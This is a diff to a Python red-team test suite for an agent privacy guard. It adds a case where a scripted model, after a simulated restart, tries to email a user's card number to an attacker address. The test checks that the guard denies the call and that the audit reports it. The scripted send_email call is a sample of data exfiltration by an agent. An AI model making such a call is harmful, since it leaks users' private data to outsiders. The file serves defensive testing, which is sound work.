@@ -1,9 +1,11 @@
 """Red team 60b: a result field holding no JSON value (a `Decimal`, a date, a model object) is labelled
 whole live ("a value that is no JSON value (an object, shown by its repr) is labelled as its whole text:
 private to the user if any field is declared private"). The journal and the message record it by its
-repr, and list that repr under "reprs", so both audits label it whole too: a card number held as a
-`Decimal` and mailed to an outsider is denied live and reported by `audit_trace` over the journal and
-over the messages."""
+repr, and list that repr under "reprs", so both audits label it whole too, and so does a new flow over
+the same journal and secret after a restart (as README's "Restarts" asks): a card number held as a
+`Decimal` and mailed to an outsider is denied live and after a restart, and reported by `audit_trace`
+over the journal and over the messages."""
+
 
 from __future__ import annotations
 
@@ -12,6 +14,7 @@ from typing import Any
 
 import pytest
 from langchain_core.messages import AIMessage, HumanMessage, ToolMessage
+from langgraph.checkpoint.memory import InMemorySaver
 from test_privacy_integrity import mail_effect
 
 from guards import (
@@ -73,3 +76,30 @@ def test_a_trace_whose_reprs_are_not_strings_to_strings_is_refused() -> None:
              {"type": "result", "id": "c1", "tool": "get_account", "result": {"card": "x"}, "reprs": ["x"]}]
     with pytest.raises(TraceError, match="reprs"):
         audit_trace(trace, _tools([]), POLICY)
+
+
+def _restart_rule(messages: list[Any]) -> Any:
+    turn = sum(isinstance(m, AIMessage) for m in messages)
+    if turn == 0:
+        return AIMessage("", tool_calls=[{"name": "get_account", "args": {}, "id": "c1"}])
+    if turn == 2:  # after the restart: the card number the model read in clear, to an outsider
+        return AIMessage("", tool_calls=[{"name": "send_email", "id": "c2",
+                                          "args": {"to": [ATTACKER], "body": "card 4111111111111111"}}])
+    return "ok"
+
+
+def _app(sent: list, journal: EffectJournal, saver: InMemorySaver) -> Any:
+    flow = PrivacyFlow(POLICY, secret=b"s", journal=journal)
+    return Agent(ScriptedModel(rule=_restart_rule), _tools(sent), guards=[flow.guard()], flow=flow,
+                 journal=journal).compile(checkpointer=saver)
+
+
+
+def test_a_rebuilt_thread_keeps_a_non_json_field_private() -> None:
+    sent: list = []
+    journal, saver = EffectJournal(), InMemorySaver()
+    cfg = {"configurable": {"thread_id": "t"}}
+    _app(sent, journal, saver).invoke({"messages": [HumanMessage("Check my account.")]}, cfg)
+    # the process restarts: a new flow, the same journal, secret and checkpoints
+    _app(sent, journal, saver).invoke({"messages": [HumanMessage("Thanks. Anything else?")]}, cfg)
+    assert sent == [], sent  # denied: the card number is private to the user once rebuilt too
